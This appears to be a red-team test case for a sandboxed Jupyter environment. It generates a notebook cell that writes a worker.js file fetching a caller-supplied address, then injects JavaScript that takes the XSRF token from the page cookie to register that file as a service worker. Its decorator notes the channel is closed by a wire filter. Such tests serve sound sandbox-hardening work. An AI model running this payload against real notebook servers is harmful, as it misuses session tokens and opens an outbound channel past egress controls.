from __future__ import annotations

from tests.redteam.channel import beacon


@beacon(
    "beacon-worker",
    "A service worker from a file of the workspace, which fetches",
    closed_by="wire filter: no scripts; raw files are denied",
)
def cell(address: str) -> str:
    worker = f"fetch('{address}?worker');"
    # A page of JupyterLab knows the XSRF token; with it the server lets scripts have raw files.
    script = (
        "var place = JSON.parse(document.getElementById('jupyter-config-data').textContent).baseUrl"
        " + 'files/worker.js?_xsrf=' + (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];"
        "navigator.serviceWorker.register(place); new Worker(place);"
    )
    return (
        f"open('worker.js', 'w').write({worker!r})\n"
        f"from IPython.display import Javascript\nJavascript({script!r})"
    )
